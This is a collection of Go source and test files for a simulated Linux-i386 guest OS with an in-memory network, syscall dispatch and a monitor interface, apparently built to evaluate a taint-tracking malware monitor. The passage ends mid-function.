	l, _ := n.Bind("srv:9")
	conn, err := n.Connect("srv:9")
	if err != nil {
		t.Fatal(err)
	}
	if len(l.pending) != 1 {
		t.Fatal("no pending connection at the listener")
	}
	server := l.pending[0]
	conn.Write([]byte("abc"))
	if got := string(server.Read(8)); got != "abc" {
		t.Errorf("server read %q", got)
	}
	server.Write([]byte("ok"))
	if got := string(conn.Read(8)); got != "ok" {
		t.Errorf("client read %q", got)
	}
}

func TestConnEOFSemantics(t *testing.T) {
	n := NewNetwork()
	a, b := n.pair("a:1", "b:1")
	a.Write([]byte("last words"))
	a.Close()
	// b drains buffered data, then sees EOF.
	if !b.Readable() {
		t.Fatal("buffered data not readable")
	}
	if got := string(b.Read(32)); got != "last words" {
		t.Errorf("read = %q", got)
	}
	if !b.Readable() {
		t.Error("EOF not readable")
	}
	if got := b.Read(8); len(got) != 0 {
		t.Errorf("read after EOF = %q", got)
	}
	// Writing to a closed peer fails.
	if b.Write([]byte("x")) != -1 {
		t.Error("write to closed peer succeeded")
	}
}

func TestConnReadablePartial(t *testing.T) {
	n := NewNetwork()
	a, b := n.pair("a:1", "b:1")
	if b.Readable() {
		t.Error("empty open conn readable")
	}
	a.Write([]byte("xy"))
	if got := string(b.Read(1)); got != "x" {
		t.Errorf("partial read = %q", got)
	}
	if got := string(b.Read(8)); got != "y" {
		t.Errorf("remainder = %q", got)
	}
}

func TestScheduledConnectWaitsForListener(t *testing.T) {
	n := NewNetwork()
	script := &echoRemote{}
	n.ScheduleConnect(100, "late:1", "peer:2", script)
	// Before the listener exists, ticking past the deadline retries.
	n.Tick(200)
	if script.greeted {
		t.Fatal("connected without a listener")
	}
	if !n.PendingWork() {
		t.Fatal("scheduled connect dropped")
	}
	l, _ := n.Bind("late:1")
	n.Tick(300)
	if !script.greeted {
		t.Fatal("scheduled connect did not fire")
	}
	if len(l.pending) != 1 {
		t.Fatal("listener did not receive the connection")
	}
	if n.PendingWork() {
		t.Error("scheduled connect not consumed")
	}
	// Addressing: the accepted endpoint names the remote peer.
	if l.pending[0].RemoteAddr != "peer:2" {
		t.Errorf("remote addr = %q", l.pending[0].RemoteAddr)
	}
}

func TestScheduledConnectNotEarly(t *testing.T) {
	n := NewNetwork()
	n.Bind("x:1")
	script := &echoRemote{}
	n.ScheduleConnect(1000, "x:1", "p:1", script)
	n.Tick(999)
	if script.greeted {
		t.Error("fired before its time")
	}
	n.Tick(1000)
	if !script.greeted {
		t.Error("did not fire at its time")
	}
}

func TestFDescResourceIdentity(t *testing.T) {
	cases := []struct {
		fd       *FDesc
		wantName string
		wantType string
	}{
		{&FDesc{Kind: FDFile, Path: "/etc/x"}, "/etc/x", "FILE"},
		{&FDesc{Kind: FDStdin}, "stdin", "USER_INPUT"},
		{&FDesc{Kind: FDStdout}, "stdout", "FILE"},
		{&FDesc{Kind: FDStderr}, "stderr", "FILE"},
		{&FDesc{Kind: FDListener, Path: "h:1"}, "h:1", "SOCKET"},
	}
	for _, tc := range cases {
		if got := tc.fd.ResourceName(); got != tc.wantName {
			t.Errorf("%v name = %q", tc.fd.Kind, got)
		}
		if got := tc.fd.ResourceType().String(); got != tc.wantType {
			t.Errorf("%v type = %q", tc.fd.Kind, got)
		}
	}
	// Connected sockets are named by their peer.
	n := NewNetwork()
	a, _ := n.pair("local:1", "remote:2")
	fd := &FDesc{Kind: FDSock, Path: "original", conn: a}
	if fd.ResourceName() != "remote:2" {
		t.Errorf("socket name = %q", fd.ResourceName())
	}
	src := fd.Source()
	if src.Name != "remote:2" || src.Type.String() != "SOCKET" {
		t.Errorf("source = %v", src)
	}
}

func TestFDKindStrings(t *testing.T) {
	kinds := map[FDKind]string{
		FDFile: "file", FDSock: "socket", FDListener: "listener",
		FDStdin: "stdin", FDStdout: "stdout", FDStderr: "stderr",
	}
	for k, want := range kinds {
		if k.String() != want {
			t.Errorf("%d = %q, want %q", k, k.String(), want)
		}
	}
}

func TestFSBasics(t *testing.T) {
	fs := NewFS()
	fs.Create("/a", []byte("1"))
	fs.Create("/b", nil)
	if got := fs.Paths(); len(got) != 2 || got[0] != "/a" {
		t.Errorf("paths = %v", got)
	}
	listing := string(fs.Listing())
	if listing != "/a\n/b\n" {
		t.Errorf("listing = %q", listing)
	}
	fs.Remove("/a")
	if _, ok := fs.Lookup("/a"); ok {
		t.Error("removed file still present")
	}
	// Create truncates/replaces.
	fs.Create("/b", []byte("new"))
	f, _ := fs.Lookup("/b")
	if string(f.Data) != "new" {
		t.Errorf("data = %q", f.Data)
	}
}

func TestSyscallNames(t *testing.T) {
	if SyscallName(SysExecve) != "SYS_execve" || SyscallName(9999) != "SYS_unknown" {
		t.Error("SyscallName wrong")
	}
	if SockName(SockConnect) != "connect" || SockName(99) != "sockcall?" {
		t.Error("SockName wrong")
	}
}
