package vos

// Verdict is the monitor's decision about a pending system call,
// returned while the guest is paused (paper §7.1).
type Verdict int

// Verdicts.
const (
	// Continue lets the call proceed.
	Continue Verdict = iota
	// Kill terminates the offending process immediately; the call
	// does not take effect.
	Kill
)

// Syscall numbers (Linux i386 ABI subset).
const (
	SysExit       = 1
	SysFork       = 2
	SysRead       = 3
	SysWrite      = 4
	SysOpen       = 5
	SysClose      = 6
	SysWaitpid    = 7
	SysCreat      = 8
	SysUnlink     = 10
	SysExecve     = 11
	SysTime       = 13
	SysLseek      = 19
	SysGetpid     = 20
	SysDup        = 41
	SysBrk        = 45
	SysSocketcall = 102
	SysClone      = 120
	SysNanosleep  = 162
)

// SyscallName renders a number in the paper's SYS_* notation.
func SyscallName(num uint32) string {
	switch num {
	case SysExit:
		return "SYS_exit"
	case SysFork:
		return "SYS_fork"
	case SysRead:
		return "SYS_read"
	case SysWrite:
		return "SYS_write"
	case SysOpen:
		return "SYS_open"
	case SysClose:
		return "SYS_close"
	case SysWaitpid:
		return "SYS_waitpid"
	case SysCreat:
		return "SYS_creat"
	case SysUnlink:
		return "SYS_unlink"
	case SysExecve:
		return "SYS_execve"
	case SysTime:
		return "SYS_time"
	case SysLseek:
		return "SYS_lseek"
	case SysGetpid:
		return "SYS_getpid"
	case SysDup:
		return "SYS_dup"
	case SysBrk:
		return "SYS_brk"
	case SysSocketcall:
		return "SYS_socketcall"
	case SysClone:
		return "SYS_clone"
	case SysNanosleep:
		return "SYS_nanosleep"
	}
	return "SYS_unknown"
}

// Socketcall sub-call numbers (Linux net.h).
const (
	SockSocket  = 1
	SockBind    = 2
	SockConnect = 3
	SockListen  = 4
	SockAccept  = 5
	SockSend    = 9
	SockRecv    = 10
)

// SockName renders a socketcall sub-number.
func SockName(n uint32) string {
	switch n {
	case SockSocket:
		return "socket"
	case SockBind:
		return "bind"
	case SockConnect:
		return "connect"
	case SockListen:
		return "listen"
	case SockAccept:
		return "accept"
	case SockSend:
		return "send"
	case SockRecv:
		return "recv"
	}
	return "sockcall?"
}

// SockInfo carries the decoded socketcall details.
type SockInfo struct {
	Call     uint32 // SockSocket..SockRecv
	FD       int
	Addr     string // endpoint for bind/connect
	AddrPtr  uint32 // guest address of the endpoint string
	AddrLen  uint32
	Buf      uint32 // send/recv buffer
	Len      uint32
	Accepted *FDesc // accept: the new connection's descriptor
}

// SyscallCtx is the decoded system call handed to the monitor.
// Fields are populated according to the call; the monitor reads taint
// for names and buffers from the guest shadow using the *Ptr/Len
// fields (paper §6.1.2: events carry the resource name, its type, and
// the resource ID data source).
type SyscallCtx struct {
	Num  uint32
	Name string // SYS_* name

	// Generic raw arguments (EBX, ECX, EDX, ESI, EDI).
	Args [5]uint32

	// Path-taking calls (open/creat/execve): the path and where its
	// bytes live in guest memory.
	Path    string
	PathPtr uint32
	PathLen uint32

	// Descriptor-based calls.
	FD  int
	Des *FDesc

	// Data-transfer calls (read/write/send/recv).
	Buf uint32
	Len uint32

	// Socketcall details.
	Sock *SockInfo

	// Process calls.
	Child *Process // fork/clone: the new process (SyscallExit only)

	// Prev is the previous program break for SYS_brk events.
	Prev uint32

	// Result is the syscall return value (SyscallExit only).
	Result uint32
}

// Monitor observes a process tree. Harrier implements this interface.
// All methods are invoked synchronously on the simulator's single
// thread; SyscallEnter is called exactly once per *completed* call —
// calls that block (read on an empty socket, accept, waitpid) notify
// only when they are about to make progress, so monitors never see
// retry duplicates.
type Monitor interface {
	// Started runs when a monitored root process has been created and
	// loaded, before its first instruction; Harrier installs its CPU
	// hooks here.
	Started(p *Process)
	// SyscallEnter runs before the call's effects are applied. A Kill
	// verdict terminates the process and suppresses the call.
	SyscallEnter(p *Process, sc *SyscallCtx) Verdict
	// SyscallExit runs after the call's effects, with Result set.
	SyscallExit(p *Process, sc *SyscallCtx)
	// Forked runs after fork/clone created child (child is runnable).
	Forked(parent, child *Process)
	// Execed runs after p replaced its image via execve.
	Execed(p *Process)
	// Exited runs when p terminates (exit, kill, or fault).
	Exited(p *Process)
}

// PreExecMonitor is an optional Monitor extension: a monitor that
// caches state keyed to a process's code spans (Harrier's compiled
// block summaries) implements it to be notified immediately before
// execve tears the old code map down, while the spans are still
// reachable through p.CPU.Code. It is discovered by type assertion so
// existing Monitor implementations stay source-compatible.
type PreExecMonitor interface {
	PreExec(p *Process)
}

// TaintSourceMonitor is an optional Monitor extension: a monitor that
// runs guest code uninstrumented while the taint state is provably
// clean (Harrier's clean tier) implements it to hear about
// taint-source system calls — read(2), socketcall(recv), and the
// cross-process transfers that ride on them — at the moment the
// kernel commits to depositing external data into guest memory,
// before the deposit and before the monitor's own SyscallExit tagging
// runs. The callback gives the monitor a hard boundary at which to
// flush any "no live taint reachable" assumptions, independent of the
// shadow's own page-flip seam. Discovered by type assertion, like
// PreExecMonitor, so existing Monitor implementations stay
// source-compatible.
type TaintSourceMonitor interface {
	TaintSource(p *Process, sc *SyscallCtx)
}

// NopMonitor is an embeddable no-op Monitor.
type NopMonitor struct{}

// Started does nothing.
func (NopMonitor) Started(*Process) {}

// SyscallEnter allows every call.
func (NopMonitor) SyscallEnter(*Process, *SyscallCtx) Verdict { return Continue }

// SyscallExit does nothing.
func (NopMonitor) SyscallExit(*Process, *SyscallCtx) {}

// Forked does nothing.
func (NopMonitor) Forked(*Process, *Process) {}

// Execed does nothing.
func (NopMonitor) Execed(*Process) {}

// Exited does nothing.
func (NopMonitor) Exited(*Process) {}
