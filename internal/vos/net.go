package vos

import (
	"fmt"
)

// Conn is one endpoint of a duplex in-memory connection. Each endpoint
// owns an inbound buffer; writing delivers into the peer's buffer.
type Conn struct {
	LocalAddr  string
	RemoteAddr string
	in         []byte
	peer       *Conn
	closed     bool // this endpoint closed (no more writes)
	script     RemoteScript
	net        *Network
}

// Readable reports whether a read would make progress: data buffered,
// or the peer has closed (EOF).
func (c *Conn) Readable() bool {
	return len(c.in) > 0 || c.peer == nil || c.peer.closed
}

// Read drains up to n buffered bytes; returns 0 at EOF.
func (c *Conn) Read(n int) []byte {
	if n > len(c.in) {
		n = len(c.in)
	}
	out := c.in[:n]
	c.in = append([]byte(nil), c.in[n:]...)
	return out
}

// Write delivers data to the peer endpoint, invoking the peer's remote
// script if it has one. A chaos injector may drop a scripted remote's
// response in flight: the remote sees a successful send, the guest
// never receives the bytes.
func (c *Conn) Write(data []byte) int {
	if c.closed || c.peer == nil || c.peer.closed {
		return -1
	}
	if c.script != nil && c.net != nil && c.net.inject != nil &&
		c.net.inject.DropRemote(c.RemoteAddr, len(data)) {
		return len(data)
	}
	c.peer.in = append(c.peer.in, data...)
	if c.peer.script != nil {
		buf := c.peer.in
		c.peer.in = nil
		c.peer.script.OnData(&RemoteConn{conn: c.peer}, buf)
	}
	return len(data)
}

// Close marks the endpoint closed; the peer drains buffered data then
// reads EOF.
func (c *Conn) Close() {
	c.closed = true
}

// RemoteScript is a deterministic, host-implemented network peer: the
// remote attacker (pma), the remote download server (Trojan examples),
// or the X server (xeyes). Scripts run synchronously inside the
// simulated network: no goroutines, fully reproducible.
type RemoteScript interface {
	// OnConnect runs when a connection to the scripted endpoint is
	// established; it may immediately send bytes.
	OnConnect(c *RemoteConn)
	// OnData runs whenever the guest writes to the connection.
	OnData(c *RemoteConn, data []byte)
}

// RemoteConn is the script-facing handle on a connection.
type RemoteConn struct {
	conn *Conn
}

// Send delivers bytes to the guest endpoint.
func (rc *RemoteConn) Send(data []byte) { rc.conn.Write(data) }

// Close closes the remote endpoint.
func (rc *RemoteConn) Close() { rc.conn.Close() }

// LocalAddr returns the scripted endpoint's address.
func (rc *RemoteConn) LocalAddr() string { return rc.conn.LocalAddr }

// Listener is a guest-side listening socket with a queue of pending
// inbound connections.
type Listener struct {
	Addr    string
	pending []*Conn // guest-side endpoints awaiting accept
}

// scheduledConnect is a remote peer scripted to dial a guest listener
// at a virtual time.
type scheduledConnect struct {
	at     uint64
	addr   string // listener address to dial
	from   string // remote peer's own address
	script RemoteScript
}

// Network simulates the reachable network: a hosts table for
// gethostbyname, scripted remote services the guest can connect to,
// guest listeners, and scheduled inbound connections from remote
// attackers.
type Network struct {
	hosts     map[string]string              // hostname -> address
	remotes   map[string]func() RemoteScript // "addr:port" -> script factory
	listeners map[string]*Listener
	scheduled []scheduledConnect
	connN     int
	inject    FaultInjector
}

// NewNetwork returns an empty network with localhost pre-registered.
func NewNetwork() *Network {
	return &Network{
		hosts: map[string]string{
			"localhost": "127.0.0.1",
			"LocalHost": "127.0.0.1",
		},
		remotes:   make(map[string]func() RemoteScript),
		listeners: make(map[string]*Listener),
	}
}

// AddHost registers a hostname -> address mapping (the simulated DNS /
// hosts file consulted by gethostbyname, paper §7.2).
func (n *Network) AddHost(name, addr string) {
	n.hosts[name] = addr
}

// ResolveHost resolves a hostname; unknown names fail like a DNS
// miss. Already-numeric addresses resolve to themselves.
func (n *Network) ResolveHost(name string) (string, bool) {
	if a, ok := n.hosts[name]; ok {
		return a, true
	}
	if looksNumeric(name) {
		return name, true
	}
	return "", false
}

func looksNumeric(s string) bool {
	if s == "" {
		return false
	}
	for _, r := range s {
		if (r < '0' || r > '9') && r != '.' {
			return false
		}
	}
	return true
}

// AddRemote registers a scripted remote service at "addr:port"; guest
// connections to that endpoint attach a fresh script instance.
func (n *Network) AddRemote(endpoint string, factory func() RemoteScript) {
	n.remotes[endpoint] = factory
}

// ScheduleConnect arranges for a scripted remote peer at from to dial
// the guest listener at addr when the virtual clock reaches at.
func (n *Network) ScheduleConnect(at uint64, addr, from string, script RemoteScript) {
	n.scheduled = append(n.scheduled, scheduledConnect{at: at, addr: addr, from: from, script: script})
}

// Bind registers a guest listener.
func (n *Network) Bind(addr string) (*Listener, error) {
	if _, taken := n.listeners[addr]; taken {
		return nil, fmt.Errorf("vos: address in use: %s", addr)
	}
	l := &Listener{Addr: addr}
	n.listeners[addr] = l
	return l, nil
}

// Unbind removes a guest listener.
func (n *Network) Unbind(addr string) {
	delete(n.listeners, addr)
}

// Connect dials endpoint from the guest side. It succeeds against a
// scripted remote (returning immediately with the connection
// established) or against a guest listener (queuing for accept).
func (n *Network) Connect(endpoint string) (*Conn, error) {
	n.connN++
	local := fmt.Sprintf("local:%d", 30000+n.connN)
	if factory, ok := n.remotes[endpoint]; ok {
		guest, remote := n.pair(local, endpoint)
		remote.script = factory()
		remote.script.OnConnect(&RemoteConn{conn: remote})
		return guest, nil
	}
	if l, ok := n.listeners[endpoint]; ok {
		a, b := n.pair(local, endpoint)
		// a is the dialing side; b queues at the listener.
		l.pending = append(l.pending, b)
		return a, nil
	}
	return nil, fmt.Errorf("vos: connection refused: %s", endpoint)
}

// Tick fires scheduled remote connections whose time has come. A
// chaos injector may delay a delivery (the peer dials later) or drop
// it entirely (the peer never arrives; a guest blocked in accept
// eventually surfaces as a structured deadlock outcome).
func (n *Network) Tick(clock uint64) {
	rest := n.scheduled[:0]
	for _, sc := range n.scheduled {
		if clock < sc.at {
			rest = append(rest, sc)
			continue
		}
		l, ok := n.listeners[sc.addr]
		if !ok {
			// Listener not up yet: retry next tick.
			rest = append(rest, sc)
			continue
		}
		if n.inject != nil {
			delay, drop := n.inject.ScheduledConnect(clock, sc.addr)
			if drop {
				continue
			}
			if delay > 0 {
				sc.at = clock + delay
				rest = append(rest, sc)
				continue
			}
		}
		guestSide, remoteSide := n.pair(sc.addr, sc.from)
		remoteSide.script = sc.script
		l.pending = append(l.pending, guestSide)
		sc.script.OnConnect(&RemoteConn{conn: remoteSide})
	}
	n.scheduled = rest
}

// PendingWork reports whether the network still has scheduled events;
// the scheduler uses this for deadlock detection.
func (n *Network) PendingWork() bool { return len(n.scheduled) > 0 }

func (n *Network) pair(aAddr, bAddr string) (a, b *Conn) {
	a = &Conn{LocalAddr: aAddr, RemoteAddr: bAddr, net: n}
	b = &Conn{LocalAddr: bAddr, RemoteAddr: aAddr, net: n}
	a.peer = b
	b.peer = a
	return a, b
}
