package vos

import (
	"strings"

	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/loader"
	"repro/internal/taint"
)

// kernel implements isa.SyscallHandler: the Linux-i386-flavoured
// system call surface. Tracked calls (paper §7.1: execve, clone, open,
// close, creat, dup, read, write, socketcall) notify the process
// monitor synchronously before their effects apply; blocking calls
// notify exactly once, when they are about to complete.
type kernel struct {
	os *OS
}

// Syscall dispatches on EAX. When a fault injector is attached, it is
// consulted first: an injected fault makes the call fail with the
// injector's errno without executing (the guest observes EIO/ENOMEM/…
// exactly as it would a real transient failure).
func (k *kernel) Syscall(cpu *isa.CPU) {
	p := cpu.Ctx.(*Process)
	num := cpu.Regs[isa.EAX]
	args := [5]uint32{
		cpu.Regs[isa.EBX], cpu.Regs[isa.ECX], cpu.Regs[isa.EDX],
		cpu.Regs[isa.ESI], cpu.Regs[isa.EDI],
	}
	if e, injected := k.injectFault(p, num, args); injected {
		ret(p, errno(e))
	} else {
		k.dispatch(p, num, args)
	}
	// Syscall results are kernel-produced values: whatever taint EAX
	// carried before the call does not describe the result. (The tag
	// is cleared immediately; calls that complete later fill in the
	// value, not the tag.)
	cpu.RegTags[isa.EAX] = taint.Empty
}

// injectFault asks the attached injector whether this call should fail
// artificially. Only the calls the chaos layer targets — read, write,
// open/creat, connect, accept — are offered; everything else always
// executes.
func (k *kernel) injectFault(p *Process, num uint32, args [5]uint32) (uint32, bool) {
	inj := k.os.inject
	if inj == nil {
		return 0, false
	}
	fp := FaultPoint{PID: p.PID, Num: num, FD: -1, Clock: k.os.Clock}
	switch num {
	case SysRead, SysWrite:
		fp.FD = int(args[0])
	case SysOpen, SysCreat:
		fp.Path = p.CPU.Mem.CString(args[0])
	case SysSocketcall:
		sub := args[0]
		if sub != SockConnect && sub != SockAccept {
			return 0, false
		}
		fp.Sock = sub
		fp.FD = int(p.CPU.Mem.Load32(args[1]))
	default:
		return 0, false
	}
	return inj.SyscallFault(fp)
}

// clampRead offers a completing read to the injector, which may turn
// it into a short read.
func (k *kernel) clampRead(p *Process, fd int, want uint32) uint32 {
	if inj := k.os.inject; inj != nil {
		return inj.ShortRead(FaultPoint{PID: p.PID, Num: SysRead, FD: fd, Clock: k.os.Clock}, want)
	}
	return want
}

func (k *kernel) dispatch(p *Process, num uint32, args [5]uint32) {
	switch num {
	case SysExit:
		k.sysExit(p, args)
	case SysFork, SysClone:
		k.sysFork(p, num, args)
	case SysRead:
		k.sysRead(p, args)
	case SysWrite:
		k.sysWrite(p, args)
	case SysOpen:
		k.sysOpen(p, args, false)
	case SysCreat:
		k.sysOpen(p, args, true)
	case SysUnlink:
		k.sysUnlink(p, args)
	case SysLseek:
		k.sysLseek(p, args)
	case SysClose:
		k.sysClose(p, args)
	case SysWaitpid:
		k.sysWaitpid(p, args)
	case SysExecve:
		k.sysExecve(p, args)
	case SysTime:
		p.CPU.Regs[isa.EAX] = uint32(k.os.Clock)
	case SysGetpid:
		p.CPU.Regs[isa.EAX] = uint32(p.PID)
	case SysDup:
		k.sysDup(p, args)
	case SysBrk:
		k.sysBrk(p, args)
	case SysSocketcall:
		k.sysSocketcall(p, args)
	case SysNanosleep:
		k.sysNanosleep(p, args)
	default:
		p.CPU.Regs[isa.EAX] = errno(38) // ENOSYS
	}
}

func ret(p *Process, v uint32) { p.CPU.Regs[isa.EAX] = v }

func (k *kernel) sysExit(p *Process, args [5]uint32) {
	sc := &SyscallCtx{Num: SysExit, Name: "SYS_exit", Args: args}
	if !p.notifyEnter(sc) {
		return
	}
	p.terminate(int32(args[0]), false, nil)
}

func (k *kernel) sysFork(p *Process, num uint32, args [5]uint32) {
	sc := &SyscallCtx{Num: num, Name: SyscallName(num), Args: args}
	if !p.notifyEnter(sc) {
		return
	}
	child := k.os.forkProcess(p)
	child.CPU.Regs[isa.EAX] = 0
	ret(p, uint32(child.PID))
	sc.Child = child
	sc.Result = uint32(child.PID)
	if p.Monitor != nil {
		p.Monitor.Forked(p, child)
	}
	p.notifyExit(sc)
}

// forkProcess duplicates p: memory, shadow, registers, descriptors.
func (os *OS) forkProcess(p *Process) *Process {
	child := &Process{
		PID:        os.nextPID,
		PPID:       p.PID,
		OS:         os,
		CPU:        p.CPU.Clone(),
		Images:     p.Images.Clone(),
		FDs:        make(map[int]*FDesc, len(p.FDs)),
		nextFD:     p.nextFD,
		Path:       p.Path,
		Argv:       p.Argv,
		Env:        p.Env,
		StartClock: p.StartClock,
		Monitor:    p.Monitor,
		stdin:      p.stdin,
		stdinOff:   p.stdinOff,
		zombies:    make(map[int]int32),
	}
	os.nextPID++
	child.CPU.Ctx = child
	child.CPU.Mem = p.CPU.Mem.Clone()
	if p.CPU.Shadow != nil {
		child.CPU.Shadow = p.CPU.Shadow.Clone()
	}
	child.CPU.Code = p.CPU.Code.Clone()
	// The child resumes after the int 0x80.
	child.CPU.EIP = p.CPU.EIP + isa.InstrSize
	for n, fd := range p.FDs {
		child.FDs[n] = fd.clone()
	}
	p.children++
	os.addProc(child)
	return child
}

func (k *kernel) sysOpen(p *Process, args [5]uint32, creat bool) {
	pathPtr := args[0]
	flags := args[1]
	if creat {
		flags = OCreat | OTrunc | OWrOnly
	}
	path := p.CPU.Mem.CString(pathPtr)
	num, name := uint32(SysOpen), "SYS_open"
	if creat {
		num, name = SysCreat, "SYS_creat"
	}
	sc := &SyscallCtx{
		Num: num, Name: name, Args: args,
		Path: path, PathPtr: pathPtr, PathLen: uint32(len(path)), FD: -1,
	}
	if !p.notifyEnter(sc) {
		return
	}
	var f *File
	if path == "." {
		// Directory listing pseudo-file, for ls-style guests.
		f = &File{Path: ".", Data: k.os.FS.Listing()}
	} else if existing, ok := k.os.FS.Lookup(path); ok {
		f = existing
		if flags&OTrunc != 0 {
			f.Data = nil
		}
	} else if flags&OCreat != 0 {
		f = k.os.FS.Create(path, nil)
	} else {
		ret(p, errno(ENOENT))
		sc.Result = errno(ENOENT)
		p.notifyExit(sc)
		return
	}
	fd := &FDesc{Kind: FDFile, Path: path, file: f, flags: flags}
	if flags&OAppend != 0 {
		fd.off = len(f.Data)
	}
	n := p.allocFD(fd)
	if n < 0 {
		ret(p, errno(EMFILE))
		sc.Result = errno(EMFILE)
		p.notifyExit(sc)
		return
	}
	sc.Des = fd
	sc.FD = n
	sc.Result = uint32(n)
	ret(p, uint32(n))
	p.notifyExit(sc)
}

// sysUnlink removes a file. Tracked: Trojans delete their traces
// (droppers removing payloads after execution).
func (k *kernel) sysUnlink(p *Process, args [5]uint32) {
	pathPtr := args[0]
	path := p.CPU.Mem.CString(pathPtr)
	sc := &SyscallCtx{
		Num: SysUnlink, Name: "SYS_unlink", Args: args,
		Path: path, PathPtr: pathPtr, PathLen: uint32(len(path)),
	}
	if !p.notifyEnter(sc) {
		return
	}
	if _, ok := k.os.FS.Lookup(path); !ok {
		ret(p, errno(ENOENT))
		sc.Result = errno(ENOENT)
		p.notifyExit(sc)
		return
	}
	k.os.FS.Remove(path)
	ret(p, 0)
	p.notifyExit(sc)
}

// lseek whence values.
const (
	seekSet = 0
	seekCur = 1
	seekEnd = 2
)

// sysLseek repositions a file descriptor's offset.
func (k *kernel) sysLseek(p *Process, args [5]uint32) {
	fd, ok := p.FD(int(args[0]))
	if !ok || fd.Kind != FDFile {
		ret(p, errno(EBADF))
		return
	}
	off := int32(args[1])
	var base int
	switch args[2] {
	case seekSet:
		base = 0
	case seekCur:
		base = fd.off
	case seekEnd:
		base = len(fd.file.Data)
	default:
		ret(p, errno(EINVAL))
		return
	}
	pos := base + int(off)
	if pos < 0 {
		ret(p, errno(EINVAL))
		return
	}
	fd.off = pos
	ret(p, uint32(pos))
}

func (k *kernel) sysClose(p *Process, args [5]uint32) {
	n := int(args[0])
	fd, ok := p.FD(n)
	if !ok {
		ret(p, errno(EBADF))
		return
	}
	sc := &SyscallCtx{Num: SysClose, Name: "SYS_close", Args: args, FD: n, Des: fd}
	if !p.notifyEnter(sc) {
		return
	}
	p.closeFD(n, fd)
	ret(p, 0)
	p.notifyExit(sc)
}

func (k *kernel) sysDup(p *Process, args [5]uint32) {
	n := int(args[0])
	fd, ok := p.FD(n)
	if !ok {
		ret(p, errno(EBADF))
		return
	}
	sc := &SyscallCtx{Num: SysDup, Name: "SYS_dup", Args: args, FD: n, Des: fd}
	if !p.notifyEnter(sc) {
		return
	}
	nn := p.allocFD(fd.clone())
	if nn < 0 {
		ret(p, errno(EMFILE))
		sc.Result = errno(EMFILE)
		p.notifyExit(sc)
		return
	}
	sc.Result = uint32(nn)
	ret(p, uint32(nn))
	p.notifyExit(sc)
}

func (k *kernel) sysRead(p *Process, args [5]uint32) {
	n := int(args[0])
	buf, want := args[1], args[2]
	fd, ok := p.FD(n)
	if !ok {
		ret(p, errno(EBADF))
		return
	}
	mkCtx := func() *SyscallCtx {
		return &SyscallCtx{
			Num: SysRead, Name: "SYS_read", Args: args,
			FD: n, Des: fd, Buf: buf, Len: want,
		}
	}
	complete := func(data []byte) {
		p.CPU.Mem.WriteBytes(buf, data)
		ret(p, uint32(len(data)))
	}
	switch fd.Kind {
	case FDStdin:
		sc := mkCtx()
		if !p.notifyEnter(sc) {
			return
		}
		p.notifyTaintSource(sc)
		avail := p.stdin[p.stdinOff:]
		nr := int(k.clampRead(p, n, want))
		if nr > len(avail) {
			nr = len(avail)
		}
		complete(avail[:nr])
		p.stdinOff += nr
		sc.Result = uint32(nr)
		p.notifyExit(sc)
	case FDFile:
		sc := mkCtx()
		if !p.notifyEnter(sc) {
			return
		}
		p.notifyTaintSource(sc)
		avail := fd.file.Data[min(fd.off, len(fd.file.Data)):]
		nr := int(k.clampRead(p, n, want))
		if nr > len(avail) {
			nr = len(avail)
		}
		complete(avail[:nr])
		fd.off += nr
		sc.Result = uint32(nr)
		p.notifyExit(sc)
	case FDSock:
		k.recvCommon(p, fd, nil, args, buf, want)
	default:
		ret(p, errno(EBADF))
	}
}

// recvCommon implements blocking reads from a socket, shared by
// read(2) and socketcall(recv). sock is non-nil for the recv flavour.
func (k *kernel) recvCommon(p *Process, fd *FDesc, sock *SockInfo, args [5]uint32, buf, want uint32) {
	if fd.conn == nil {
		ret(p, errno(EBADF))
		return
	}
	attempt := func() bool {
		if !fd.conn.Readable() {
			return false
		}
		sc := &SyscallCtx{
			Num: SysRead, Name: "SYS_read", Args: args,
			FD: int(args[0]), Des: fd, Buf: buf, Len: want, Sock: sock,
		}
		if sock != nil {
			sc.Num, sc.Name = SysSocketcall, "SYS_socketcall"
			sc.FD = sock.FD
		}
		if !p.notifyEnter(sc) {
			return true // killed: unblock into the exited state
		}
		p.notifyTaintSource(sc)
		data := fd.conn.Read(int(k.clampRead(p, -1, want)))
		p.CPU.Mem.WriteBytes(buf, data)
		ret(p, uint32(len(data)))
		sc.Result = uint32(len(data))
		p.notifyExit(sc)
		return true
	}
	p.block(attempt)
}

func (k *kernel) sysWrite(p *Process, args [5]uint32) {
	n := int(args[0])
	fd, ok := p.FD(n)
	if !ok {
		ret(p, errno(EBADF))
		return
	}
	k.writeCommon(p, fd, nil, args, args[1], args[2])
}

// writeCommon implements writes, shared by write(2) and
// socketcall(send).
func (k *kernel) writeCommon(p *Process, fd *FDesc, sock *SockInfo, args [5]uint32, buf, nlen uint32) {
	// The transfer length is guest-controlled: clamp it before it
	// reaches the monitor or materializes as a host allocation (a
	// guest that passes an errno as a length requests ~4 GiB). Like
	// Linux's MAX_RW_COUNT, the syscall then returns the short count.
	if nlen > MaxRWCount {
		nlen = MaxRWCount
	}
	sc := &SyscallCtx{
		Num: SysWrite, Name: "SYS_write", Args: args,
		FD: int(args[0]), Des: fd, Buf: buf, Len: nlen, Sock: sock,
	}
	if sock != nil {
		sc.Num, sc.Name = SysSocketcall, "SYS_socketcall"
		sc.FD = sock.FD
	}
	if !p.notifyEnter(sc) {
		return
	}
	data := p.CPU.Mem.ReadBytes(buf, nlen)
	var res uint32
	switch fd.Kind {
	case FDStdout, FDStderr:
		k.os.appendConsole(p, data)
		res = nlen
	case FDFile:
		f := fd.file
		for len(f.Data) < fd.off {
			f.Data = append(f.Data, 0)
		}
		f.Data = append(f.Data[:fd.off], append(data, f.Data[min(fd.off+len(data), len(f.Data)):]...)...)
		fd.off += len(data)
		res = nlen
	case FDSock:
		if fd.conn == nil || fd.conn.Write(data) < 0 {
			res = errno(32) // EPIPE
		} else {
			res = nlen
		}
	default:
		res = errno(EBADF)
	}
	ret(p, res)
	sc.Result = res
	p.notifyExit(sc)
}

func (k *kernel) sysSocketcall(p *Process, args [5]uint32) {
	call := args[0]
	argp := args[1]
	a := func(i uint32) uint32 { return p.CPU.Mem.Load32(argp + 4*i) }

	switch call {
	case SockSocket:
		sc := &SyscallCtx{
			Num: SysSocketcall, Name: "SYS_socketcall", Args: args,
			Sock: &SockInfo{Call: SockSocket},
		}
		if !p.notifyEnter(sc) {
			return
		}
		n := p.allocFD(&FDesc{Kind: FDSock, Path: "unconnected"})
		if n < 0 {
			ret(p, errno(EMFILE))
			sc.Result = errno(EMFILE)
			p.notifyExit(sc)
			return
